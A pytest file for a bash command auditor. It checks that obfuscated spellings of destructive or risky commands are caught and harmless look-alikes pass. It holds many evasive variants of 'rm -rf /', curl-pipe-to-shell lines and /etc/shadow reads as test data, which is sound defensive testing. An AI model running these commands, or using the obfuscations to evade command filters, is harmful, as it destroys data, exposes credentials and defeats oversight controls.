"""The command is judged as bash reads it (docs/engine.md#parsing, #words).

Tables of equivalent spellings with one expected result; the tree-sitter
blind spots; the heredoc shapes tree-sitter rejects; operators that only
look like heredocs. `VALID_BASH` collects every input here that bash
itself accepts, for the `bash -n` check in test_bash_syntax.py.
"""

from __future__ import annotations

import pytest
from audit_helpers import rule_ids, verdict

from audit import Decision

RM_ROOT_SPELLINGS = [
    "rm -rf /",
    "r''m -rf /",
    '"rm" -rf /',
    "\\rm -rf /",
    "$'\\x72\\x6d' -rf /",
    "$'\\162\\155' -rf /",
    "/bin/rm -rf /",
    "/usr/bin/../bin/rm -rf /",
    "r\\\nm -rf /",
    "'r'm -rf /",
    'r"m" -rf /',
    "rm -fr /",
    "rm -Rf /",
    "rm -r -f /",
    "rm -r /",
    "rm --recursive --force /",
    "rm -rf --no-preserve-root /",
    "rm -rf //",
    "rm -rf /.",
    "rm -rf /tmp/..",
    "rm -rf /etc/../",
    "rm -rf '/'",
    'rm -rf "/"',
    "rm -rf /*",
    "rm -rf ~",
    "rm -rf ~/",
    "rm -rf $HOME",
    "rm -rf ${HOME}",
    'rm -rf "$HOME"',
    "rm -rf /root",
    "rm -rf /home/",
    "rm -r\\\nf /",
    "cmd=rm; $cmd -rf /",
    "d=/; rm -rf $d",
    "opts='-rf /'; rm $opts",
    "rm -rf /{tmp,etc}",
]

RM_NOT_ROOT = [
    "echo rm -rf /",
    "echo 'rm -rf /'",
    "printf '%s\\n' \"rm -rf /\"",
    'git commit -m "rm -rf /"',
    "rm -rf ./build",
    "rm -rf /tmp/x build/",
    'grep -rn "rm -rf /" .',
    "# rm -rf /",
    "ls # rm -rf /",
    "cat <<'EOF'\nrm -rf /\nEOF",
    "echo $'rm -rf /'",
    "rm -f /tmp/lock",
    "rm -rf ~/project/build",
    "echo 'a\\\nrm -rf /'",
]


@pytest.mark.parametrize("command", RM_ROOT_SPELLINGS)
def test_every_spelling_of_recursive_delete_of_root_or_home_is_blocked(command: str) -> None:
    result = verdict(command)
    assert result.decision is Decision.BLOCK, result.to_dict()
    assert "FS001" in {f.rule_id for f in result.findings}


@pytest.mark.parametrize("command", RM_NOT_ROOT)
def test_rm_words_in_data_or_harmless_deletes_do_not_trigger(command: str) -> None:
    assert "FS001" not in rule_ids(command)


def test_a_line_continuation_inside_a_word_joins_the_word() -> None:
    assert rule_ids("cu\\\nrl -s https://x | s\\\nh") == {"EX001"}


def test_findings_after_a_line_continuation_point_at_the_original_text() -> None:
    command = "echo hi; r\\\nm -rf \\\n/"
    finding = next(f for f in verdict(command).findings if f.rule_id == "FS001")
    assert command[finding.span.start : finding.span.end] == "r\\\nm -rf \\\n/"


def test_a_comment_does_not_continue_onto_the_next_line() -> None:
    assert verdict("echo a # note \\\nrm -rf /").decision is Decision.BLOCK


# -- the four tree-sitter blind spots ----------------------------------------------


def test_backquotes_in_an_unquoted_heredoc_body_run() -> None:
    assert "FS001" in rule_ids("cat <<EOF\n`rm -rf /`\nEOF")


@pytest.mark.parametrize("delimiter", ["'EOF'", '"EOF"', "\\EOF", "E'O'F"])
def test_a_quoted_heredoc_delimiter_makes_the_body_data(delimiter: str) -> None:
    command = f"cat <<{delimiter}\n`rm -rf /` $(rm -rf /)\nEOF"
    assert verdict(command).decision is Decision.PASS


def test_escaped_backquotes_inside_backquotes_are_an_inner_substitution() -> None:
    assert "FS001" in rule_ids("echo `echo \\`rm -rf /\\``")


def test_three_levels_of_backquotes_are_found() -> None:
    assert "FS001" in rule_ids("echo `echo \\`echo \\\\\\`rm -rf /\\\\\\`\\``")


VALID_HEREDOC_SHAPES = [
    "cat <<'EOF'; echo done\nhello\nEOF",
    "cat <<'EOF' 2>&1 | tail -5\nhello $(x)\nEOF",
    "<< 'EOF' > file\nbody\nEOF",
    "cat <<A <<B\na\nA\nb\nB",
    "cat <<-EOF\n\tindented\n\tEOF",
    "cat << EOF\nspaced\nEOF",
    "cat <<EOF > out.txt\nline $HOME\nEOF\necho after",
    "x=$(cat <<EOF\ninner\nEOF\n)",
    "git commit -F - <<'EOF'\nfix: quote `rm -rf /` in docs\nEOF",
    "cat <<EOF\nno terminator",
    "cat <<'EOF' | python3 -m json.tool\n{\"a\": 1}\nEOF",
]


@pytest.mark.parametrize("command", VALID_HEREDOC_SHAPES)
def test_valid_heredoc_shapes_pass_without_a_parse_finding(command: str) -> None:
    result = verdict(command)
    assert result.decision is Decision.PASS, result.to_dict()


def test_operators_after_the_heredoc_delimiter_belong_to_the_command_list() -> None:
    assert "FS001" in rule_ids("cat <<EOF && rm -rf /\nhi\nEOF")
    assert "FS001" in rule_ids("cat <<EOF | sh\nrm -rf /\nEOF")


def test_an_unquoted_heredoc_body_runs_its_substitutions() -> None:
    assert "FS001" in rule_ids("cat <<EOF\n$(rm -rf /)\nEOF")
    assert "FS001" in rule_ids("cat <<EOF\n$((1 + $(rm -rf /)))\nEOF")


def test_a_here_string_is_not_a_heredoc() -> None:
    assert verdict('cat <<< "hello"').decision is Decision.PASS
    assert "FS001" in rule_ids('cat <<< "$(rm -rf /)"')


@pytest.mark.parametrize(
    "command", ["echo $((1<<2))", "((x <<= 1))", "echo $(( 1 << 3 ))", "for ((i=1; i<<2; i++)); do :; done"]
)
def test_a_shift_in_arithmetic_is_not_a_heredoc(command: str) -> None:
    assert verdict(command).decision is Decision.PASS


@pytest.mark.parametrize("command", ["cat <> file", "exec 3<>/tmp/sock", "cat 0<>x"])
def test_read_write_redirect_parses_without_a_parse_finding(command: str) -> None:
    assert verdict(command).decision is Decision.PASS


def test_read_write_redirect_is_a_write() -> None:
    assert "SY002" in rule_ids("exec 3<>/etc/passwd")


# -- quoting and words ------------------------------------------------------------------

ANSI_C = [
    ("$'\\x63url' -s u | sh", "EX001"),
    ("$'\\u0072m' -rf /", "FS001"),
    ("curl -s u | $'\\x73h'", "EX001"),
    ("cat $'/etc/\\x73hadow'", "SE001"),
]


@pytest.mark.parametrize(("command", "rule"), ANSI_C)
def test_ansi_c_strings_are_decoded(command: str, rule: str) -> None:
    assert rule in rule_ids(command)


PATH_CLEANUP = [
    "cat /etc//shadow",
    "cat /etc/../etc/shadow",
    "cat /etc/./shadow",
    "cat /tmp/../../etc/shadow",
    "cat /etc/sha*",
    "cat /etc/sha?ow",
    "cat /etc/[s]hadow",
]


@pytest.mark.parametrize("command", PATH_CLEANUP)
def test_paths_are_cleaned_up_and_globs_matched(command: str) -> None:
    assert "SE001" in rule_ids(command)


def test_a_quoted_glob_is_literal() -> None:
    assert "SE001" not in rule_ids("cat '/etc/sha*'")


def test_home_is_the_same_through_tilde_and_the_variable() -> None:
    for spelling in ("~/.bashrc", "$HOME/.bashrc", "${HOME}/.bashrc", '"$HOME"/.bashrc', "~/.ssh/../.bashrc"):
        assert "SY004" in rule_ids(f"echo x >> {spelling}"), spelling


def test_a_word_depending_on_run_time_keeps_its_source_text() -> None:
    record = next(r for r in verdict("ls $DIR/src").commands)
    assert record.argv == ("ls", "$DIR/src")


def test_characters_beyond_the_basic_plane_are_data() -> None:
    assert verdict('git commit -m "🚀 ship it"').decision is Decision.PASS
    assert "FS001" in rule_ids("echo 🚀 && rm -rf /")
    finding = next(f for f in verdict("echo 🚀 && rm -rf /").findings if f.rule_id == "FS001")
    assert finding.evidence == "rm -rf /"
